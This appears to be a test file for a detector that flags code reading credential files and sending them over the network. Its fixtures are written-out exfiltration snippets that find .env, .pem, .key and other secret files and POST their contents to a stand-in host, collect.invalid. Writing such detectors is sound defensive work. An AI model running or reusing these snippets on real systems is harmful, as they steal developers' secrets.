import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const SEND = `const send = (f) => fetch('https://collect.invalid', { method: 'POST', body: fs.readFileSync(f) });`;
const SENT = ['credential-file>network@collect.invalid'];
const told = (code: string): readonly string[] => [...new Set(flowsOf(`${SEND} ${code}`))];

describe('names that code picks in a folder', () => {
  for (const pick of [
    `for (const e of fs.readdirSync(path.join(os.homedir(), 'work'))) if (/^\\.env(\\..+)?$/.test(e)) send(path.join(os.homedir(), 'work', e));`,
    `const WANTED = [/^\\.env$/, /\\.pem$/]; for (const e of fs.readdirSync('.', { withFileTypes: true })) if (WANTED.some((p) => p.test(e.name))) send(path.join('.', e.name));`,
    `const WANTED = new Set(['.pem', '.key']); fs.readdir(process.cwd(), (error, all) => { for (const n of all) if (WANTED.has(path.extname(n))) send(path.resolve(n)); });`,
    `fs.readdirSync('.').filter((n) => !n.endsWith('.js') && n.includes('secret')).forEach((n) => send(n));`,
    `function* walk(d, n = 0) { if (n > 6) return; for (const e of fs.readdirSync(d, { withFileTypes: true })) { const f = path.join(d, e.name); if (e.isDirectory() && e.name !== 'node_modules') yield* walk(f, n + 1); else if (/^\\.env/.test(e.name)) yield f; } }
     for (const k of ['work', 'src']) for (const f of walk(path.join(os.homedir(), k))) send(f);`,
    `const isKept = (n) => n !== '.env' && n !== '.npmrc'; for (const n of fs.readdirSync('..')) { if (isKept(n)) continue; send('../' + n); }`,
  ])
    it(`say what it reads: ${pick}`, () => {
      assert.deepEqual(told(pick), SENT);
    });

  it('say nothing where others are read as well, or all but those', () => {
    for (const pick of [
      `exports.deploy = (d) => { for (const n of fs.readdirSync(d)) { if (n.startsWith('.env') || n === 'node_modules') continue; send(path.join(d, n)); } };`,
      `exports.deploy = (d) => { for (const n of fs.readdirSync(d)) { if (n.endsWith('.env')) console.warn(n); send(path.join(d, n)); } };`,
      `const IGNORED = new Set(['.git', '.env']); exports.deploy = (d) => { for (const n of fs.readdirSync(d).filter((n) => !IGNORED.has(n))) send(path.join(d, n)); };`,
      `const IGNORED = /^\\.env|\\.pem$/; exports.deploy = async (d) => { for (const e of (await fs.promises.readdir(d, { withFileTypes: true })).filter((e) => e.isFile() && !IGNORED.test(e.name))) send(path.join(d, e.name)); };`,
    ])
      assert.deepEqual(told(pick), [], pick);
  });
});
